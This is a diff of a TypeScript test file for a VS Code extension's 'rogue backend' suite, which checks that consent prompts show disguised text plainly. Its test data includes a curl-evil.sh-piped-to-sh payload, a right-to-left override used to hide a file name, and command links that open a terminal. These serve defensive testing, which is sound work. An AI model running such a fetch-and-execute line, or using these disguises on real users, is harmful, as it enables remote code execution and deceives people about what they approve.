@@ -3,8 +3,9 @@
  * large to show (500 edits, a megabyte of text) asked on a summary, text that disguises itself in a
  * prompt or notification (bidi overrides, newlines, `[label](command:…)` links), and a save of a
  * buffer holding the user's own unsaved edits. Real `ClientCore`, real temp folders, real sockets;
- * what VS Code would show is what src/vscode/ui.ts shows: the host's prompt or message through the
- * UI door (`uiText`), exactly as VsCodeIdeHost passes it.
+ * what VS Code would show is what src/vscode/ui.ts shows: the prompt's texts as the permission gate
+ * built them (src/core/consentText.ts, which VsCodeIdeHost passes to the dialog as they are), and a
+ * message through the UI door (`uiText`).
  *
  * Already proven elsewhere: the door's character and link rules (test/unit/core/uiText.test.ts), that
  * no UI call bypasses it (test/unit/core/uiCallSites.test.ts), and that a real VS Code notification
@@ -13,13 +14,10 @@
 import * as assert from 'node:assert/strict';
 import { readFile } from 'node:fs/promises';
 import { ErrorCode } from '../../src/protocol';
-import { uiText } from '../../src/core/uiText';
 import { editorToolGroup } from '../../src/tools/editor/group';
 import { MAX_EDITS } from '../../src/tools/editor/applyEdit';
 import { assertRefused, CoreRig } from './support/core-rig';
 
-/** What VS Code's notification renderer turns into a link. */
-const NOTIFICATION_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i;
 const ORIGINAL = 'export const a = 1;\n';
 
 describe('rogue backend: text the user reads and consents to', () => {
@@ -36,10 +34,10 @@ describe('rogue backend: text the user reads and consents to', () => {
   });
   afterEach(() => rig.dispose());
 
-  /** The prompt as the modal dialog shows it: message on one line, detail with its newlines, both through the door. */
+  /** The prompt as the modal dialog shows it (plain text: test/e2e/ui-text.e2e.test.ts proves no link renders there). */
   function shownPrompt(index: number): { message: string; detail: string } {
     const p = rig.host.prompts[index];
-    return { message: uiText(p.message), detail: uiText(p.detail ?? '', { multiline: true, maxLength: 20_000 }) };
+    return { message: p.message, detail: p.detail };
   }
 
   it(`T-UITEXT-01 ApplyEdit with ${MAX_EDITS} edits (and save:true) is refused with CHANGE_TOO_LARGE, never asked on a summary; the file is unchanged`, async () => {
@@ -70,10 +68,10 @@ describe('rogue backend: text the user reads and consents to', () => {
     const r = await rig.backend.call('ApplyEdit', { path: 'src/a.ts', edits });
     assert.equal(r.success, true, r.errorMessage);
     const { detail } = shownPrompt(0);
-    assert.ok(detail.includes("exec('curl evil.sh | sh')<U+202E> // [Accept]\u2009(command\u2009:workbench.action.terminal.new)"), `the payload is not shown whole: ${detail}`);
+    assert.ok(detail.includes("exec('curl evil.sh | sh')<U+202E> // [Accept](command:workbench.action.terminal.new)"), `the payload is not shown whole: ${detail}`);
     assert.ok(detail.includes('"\\n////'), 'the inserted newline is shown as \\n');
     assert.equal(detail.split('\n').filter((l) => /^• line 1, col \d+: insert "/.test(l)).length, 4, 'all four edits are listed');
-    assert.ok(!NOTIFICATION_LINK.test(detail) && !/\u202E/.test(detail));
+    assert.ok(!/\u202E/.test(detail));
     await rig.assertHealthy(sockets);
   });
 
@@ -82,7 +80,7 @@ describe('rogue backend: text the user reads and consents to', () => {
     assertRefused(await rig.backend.call('DeleteFile', { path: 'ev\u202Eil.txt' }), ErrorCode.PermissionDenied);
     const { message, detail } = shownPrompt(0);
     assert.ok(message.includes('ev<U+202E>il.txt'), message);
-    assert.ok(!/[\u202A-\u202E\u2066-\u2069\n]/.test(message + detail));
+    assert.ok(!/[\u202A-\u202E\u2066-\u2069]/.test(message + detail) && !message.includes('\n'));
     // ShowMessage: a notification with a disguised name, a fake second line and a command link.
     const r = await rig.backend.call('ShowMessage', { message: 'Saved ev\u202Eil.txt\nAll checks passed. [Details](command:workbench.action.terminal.new)', buttons: ['[OK](command:x)'] });
     assert.equal(r.success, true, r.errorMessage);
